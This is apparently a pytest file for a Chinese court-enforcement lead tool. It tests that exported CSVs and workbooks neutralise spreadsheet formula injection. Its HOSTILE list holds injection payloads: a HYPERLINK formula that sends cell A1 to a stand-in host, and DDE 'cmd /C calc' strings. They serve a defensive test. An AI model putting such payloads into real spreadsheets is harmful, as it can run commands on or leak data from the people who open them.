"""Attack: spreadsheet formula injection. A party name, a court name or a statement text that
starts with ``=``, ``+``, ``-``, ``@`` (or a tab / carriage return before one) must reach every
CSV as inert text and never become a formula in any workbook — while amounts stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from zhongben.leads.model import Lead
from zhongben.leads.output import write_csv, write_xlsx
from zhongben.protect.cells import csv_cell
from zhongben.store.export import xlsx_bytes

SRC = Path(__file__).resolve().parents[2] / "src" / "zhongben"
HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_gets_a_leading_apostrophe(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-1234.50", "+86", "-1,234.50", "1e5", -5, 3.5,
                                   Decimal("-12.30"), "张三", "", None, "浙0683执3382号"])
def test_numbers_and_ordinary_text_are_left_as_they_are(value: object) -> None:
    assert csv_cell(value) == value


def _lead(text: str) -> Lead:
    return Lead(rule_id="DC-01", case_no="(2024)浙0683执3382号", subject_id="330683199001011234",
                subject_name=text, explanation=text, court=text, court_code="浙0683",
                family="带财终本", severity="high", as_of=dt.date(2026, 6, 30),
                unpaid_amount=Decimal("-1234.50"), facts={"备注": text},
                evidence=[{"table": "vehicles", "row": 2, "text": text}])


def test_the_cli_csv_has_no_cell_a_spreadsheet_would_evaluate() -> None:
    text = write_csv([_lead(t) for t in HOSTILE])
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if (c and c[0] in "=+@\t\r") or re.match(r"-(?![\d.,]+$)", c)]
    assert any(c == "'" + HOSTILE[0] for c in cells)


def _formulas(content: bytes) -> list[str]:
    """Every cell of every sheet stored as a formula (``<f>`` in the sheet XML)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        return [n for n in sheets if b"<f>" in archive.read(n) or b"<f " in archive.read(n)]


def test_the_cli_workbook_holds_the_hostile_texts_as_text(tmp_path: Path) -> None:
    path = tmp_path / "leads.xlsx"
    write_xlsx([_lead(t) for t in HOSTILE], path)
    assert _formulas(path.read_bytes()) == []
    book = openpyxl.load_workbook(path)
    values = {c.value for s in book.worksheets for r in s.iter_rows() for c in r}
    assert HOSTILE[0] in values  # the court name in the summary, kept as the data says


def test_the_web_workbook_holds_the_hostile_texts_as_text() -> None:
    content = xlsx_bytes("线索", ["当事人", "未履行金额"], [[t, Decimal("-5.00")] for t in HOSTILE])
    assert _formulas(content) == []
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet["B2"].data_type == "n" and sheet["B2"].value == -5


# Writers that produce an ingest intermediate (read back by ``ingest``) or package data, not a
# file a user opens in a spreadsheet: an apostrophe there would change the data.
INTERMEDIATE_CSV = {"extract/writer.py", "identifiers/court_refresh.py"}


def test_every_workbook_and_user_csv_goes_through_the_one_safe_place() -> None:
    offenders = []
    for path in SRC.rglob("*.py"):
        name = path.relative_to(SRC).as_posix()
        if name == "protect/cells.py" or name.startswith(("synth/", "ingest/")):
            continue
        text = path.read_text(encoding="utf-8")
        if "xlsxwriter.Workbook(" in text:
            offenders.append(f"{name}: xlsxwriter.Workbook( (use protect.cells.new_workbook)")
        if re.search(r"csv\.(?:writer|DictWriter)\(", text) and name not in INTERMEDIATE_CSV \
                and "csv_cell" not in text and "csv_rows" not in text:
            offenders.append(f"{name}: a CSV writer without protect.cells")
    assert offenders == []
